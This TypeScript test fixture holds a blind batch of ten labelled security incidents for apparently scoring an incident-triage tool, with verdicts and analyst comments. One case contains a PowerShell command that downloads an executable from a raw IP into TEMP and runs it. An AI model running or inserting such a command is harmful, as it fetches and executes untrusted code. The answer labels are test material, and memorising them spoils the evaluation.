import { entity, makeAlert } from '../support/incidentBuilders';
import { app, at, host, incident, ip, mailbox, proc, serviceAccount, user, type LabelledIncident } from './incidentCases';

/**
 * Blind batch: written after the last rule change and run exactly once; no rule was changed after
 * seeing its result. Its figures are the ones to trust for new incidents (QUALITY.md).
 */
const BR = { countryCode: 'BR', countryName: 'Brazil', city: 'Sao Paulo', asn: 64512 };

export const BLIND_INCIDENT_CASES: LabelledIncident[] = [
  {
    id: 'blind-onedrive-mass-delete',
    label: 'TRUE_POSITIVE',
    why: 'Mass deletion in OneDrive after a sign-in from Brazil; the user deleted nothing.',
    incident: incident(
      'Mass delete in OneDrive by s.moreau@contoso.example',
      'MEDIUM',
      [
        makeAlert({ displayName: 'Activity from infrequent country', description: 's.moreau@contoso.example signed in from Brazil (203.0.113.57), a country not seen for this user or the organisation in the last 30 days.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['InitialAccess'], techniques: ['T1078.004'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Mass delete', description: 's.moreau@contoso.example deleted 3120 files from OneDrive in 9 minutes.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['Impact'], techniques: ['T1485'], timeGenerated: at(14) }),
      ],
      [user('s.moreau', 'Sophie Moreau'), ip('203.0.113.57', BR), app('Microsoft OneDrive for Business', 15600)],
      { comments: ["User says she didn't delete anything. Sign-in came from Brazil. Restored from recycle bin and locked the account."] },
    ),
  },
  {
    id: 'blind-iwr-download-exec',
    label: 'TRUE_POSITIVE',
    why: 'PowerShell downloads an executable from a raw IP into TEMP and starts it.',
    incident: incident(
      'Suspicious PowerShell download on CONTOSO-WS-1502',
      'MEDIUM',
      [makeAlert({ displayName: 'Suspicious PowerShell download and execute', description: 'PowerShell on CONTOSO-WS-1502 downloaded an executable from a remote server and ran it.', severity: 'MEDIUM', tactics: ['Execution', 'CommandAndControl'], techniques: ['T1059.001', 'T1105'], timeGenerated: at(0) })],
      [host('CONTOSO-WS-1502'), user('d.ferri', 'Davide Ferri', true), proc('powershell.exe', 'powershell -c "iwr http://198.51.100.9/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe"'), ip('198.51.100.9')],
    ),
  },
  {
    id: 'blind-bank-mail-delete-rule',
    label: 'TRUE_POSITIVE',
    why: 'Inbox rule deleting mail from the bank and about invoices: business email compromise.',
    incident: incident(
      'Suspicious inbox manipulation rule for finance@contoso.example',
      'MEDIUM',
      [makeAlert({ displayName: 'Suspicious inbox manipulation rule', description: 'finance@contoso.example created an inbox rule that deletes messages from bank-partner.example and messages containing "invoice".', productName: 'Microsoft Defender for Cloud Apps', tactics: ['DefenseEvasion'], techniques: ['T1564.008'], timeGenerated: at(0) })],
      [user('finance', 'Finance Shared Mailbox'), mailbox('finance@contoso.example', 'Finance'), ip('192.0.2.91')],
      { comments: ["rule deletes anything from our bank + 'invoice'. classic BEC. cleaned up; CFO notified."] },
    ),
  },
  {
    id: 'blind-credential-stuffing',
    label: 'TRUE_POSITIVE',
    why: 'Credential stuffing against the customer portal with 31 successful logins.',
    incident: incident(
      'Credential stuffing against portal.contoso.example',
      'HIGH',
      [makeAlert({ displayName: 'Possible credential stuffing', description: 'The web application firewall saw 2140 distinct customer accounts tried from 380 IP addresses against portal.contoso.example in 30 minutes; 31 logins succeeded.', productName: 'Azure Sentinel', severity: 'HIGH', tactics: ['CredentialAccess'], techniques: ['T1110.004'], timeGenerated: at(0) })],
      [ip('198.51.100.150'), ip('203.0.113.31'), ip('192.0.2.77')],
      { comments: ['2k accounts tried, 31 logins succeeded, forced resets for them and turned on bot protection.'] },
    ),
  },
  {
    id: 'blind-configmgr-inventory',
    label: 'BENIGN_POSITIVE',
    why: 'Encoded PowerShell run by the ConfigMgr client during its inventory cycle.',
    incident: incident(
      'Suspicious PowerShell command line on CONTOSO-WS-0740',
      'MEDIUM',
      [makeAlert({ displayName: 'Suspicious PowerShell command line', description: 'A PowerShell command line with an encoded command was run on CONTOSO-WS-0740.', severity: 'MEDIUM', tactics: ['Execution'], techniques: ['T1059.001'], timeGenerated: at(0) })],
      [host('CONTOSO-WS-0740'), proc('powershell.exe', `powershell.exe -NoLogo -NonInteractive -EncodedCommand ${Buffer.from('Get-CimInstance Win32_InstalledWin32Program | Select-Object Name,Version', 'utf16le').toString('base64')}`)],
      { comments: ["Runs under CcmExec as part of the software inventory cycle; that's the ConfigMgr client, nothing to do."] },
    ),
  },
  {
    id: 'blind-vendor-remote-access',
    label: 'BENIGN_POSITIVE',
    why: 'Vendor support session through the approved remote-access path for a ticket, recorded.',
    incident: incident(
      'RDP logon from the internet to CONTOSO-JUMP-01',
      'MEDIUM',
      [makeAlert({ displayName: 'Successful logon from an external address', description: 'ext_fabrikam_support logged on over RDP to CONTOSO-JUMP-01 from 198.51.100.240.', productName: 'Azure Sentinel', tactics: ['InitialAccess', 'LateralMovement'], techniques: ['T1133', 'T1021.001'], timeGenerated: at(0) })],
      [host('CONTOSO-JUMP-01', 'Windows Server 2022'), serviceAccount('ext_fabrikam_support'), ip('198.51.100.240')],
      { comments: ['Vendor (Fabrikam support) connecting through our approved remote access path for ticket INC-99120; session recorded.'] },
    ),
  },
  {
    id: 'blind-data-room-export',
    label: 'BENIGN_POSITIVE',
    why: 'Bulk export for an acquisition data room, asked for by the manager.',
    incident: incident(
      'Mass download from SharePoint site M-and-A by l.haas@contoso.example',
      'MEDIUM',
      [makeAlert({ displayName: 'Mass download by a single user', description: 'l.haas@contoso.example downloaded 940 files from the M-and-A site in 25 minutes, far above their baseline.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['Collection'], techniques: ['T1530'], timeGenerated: at(0) })],
      [user('l.haas', 'Lena Haas'), app('Microsoft SharePoint Online', 20892)],
      { comments: ['Lena is preparing the due-diligence data room for the acquisition, her manager asked her to export the folder.'] },
    ),
  },
  {
    id: 'blind-break-glass-review',
    label: 'BENIGN_POSITIVE',
    why: 'Break-glass account re-added to Global Administrators after the access review, documented in a change.',
    incident: incident(
      'Member added to Global Administrators',
      'MEDIUM',
      [makeAlert({ displayName: 'User added to privileged role', description: 'bg-admin-01@contoso.example was added to the Global Administrator role by n.wilson@contoso.example.', productName: 'Azure Sentinel', tactics: ['Persistence', 'PrivilegeEscalation'], techniques: ['T1098.003'], timeGenerated: at(0) })],
      [user('bg-admin-01', 'Break Glass 01'), user('n.wilson', 'Noah Wilson')],
      { comments: ['Break-glass account added back after the quarterly access review; documented in CHG53001.'] },
    ),
  },
  {
    id: 'blind-auditor-zip',
    label: 'FALSE_POSITIVE',
    why: "A password-protected zip from the auditor flagged generically because it could not be scanned; it is clean.",
    incident: incident(
      'Email messages containing malicious file removed after delivery',
      'MEDIUM',
      [makeAlert({ displayName: 'Email messages containing malicious file removed after delivery', description: 'A message with the attachment FY24_workpapers.zip from audit@kpmg-audit.example was removed from 3 mailboxes.', productName: 'Microsoft Defender for Office 365', tactics: ['InitialAccess'], techniques: ['T1566.001'], timeGenerated: at(0) })],
      [
        mailbox('cfo@contoso.example', 'Chief Financial Officer'),
        entity('MailMessage', 'FY24 audit workpapers', { subject: 'FY24 audit workpapers', recipient: 'cfo@contoso.example', p2Sender: 'audit@kpmg-audit.example', p2SenderDomain: 'kpmg-audit.example', senderIP: '192.0.2.160', threats: ['Malware'], antispamDirection: 'Inbound', deliveryAction: 'Delivered', deliveryLocation: 'Inbox' }),
      ],
      { comments: ["The 'malware' is a password-protected zip from our auditor; Defender couldn't scan it and flagged it generically. Auditor confirmed by phone, file scanned clean in the sandbox."] },
    ),
  },
  {
    id: 'blind-nat-gateway-unfamiliar',
    label: 'FALSE_POSITIVE',
    why: 'The new Azure NAT gateway is missing from the named locations, so every user looks unfamiliar.',
    incident: incident(
      'Unfamiliar sign-in properties for several users',
      'MEDIUM',
      [makeAlert({ displayName: 'Unfamiliar sign-in properties', description: 'Sign-ins of 14 users from 203.0.113.200 used properties never seen for those users.', productName: 'Azure Active Directory Identity Protection', tactics: ['InitialAccess'], techniques: ['T1078.004'], timeGenerated: at(0) })],
      [ip('203.0.113.200'), user('a.berg', 'Anna Berg'), user('p.iyer', 'Priya Iyer')],
      { comments: ["The IP belongs to our new Azure NAT gateway that isn't in the named locations list yet, so every user looks 'unfamiliar'. Added it."] },
    ),
  },
];
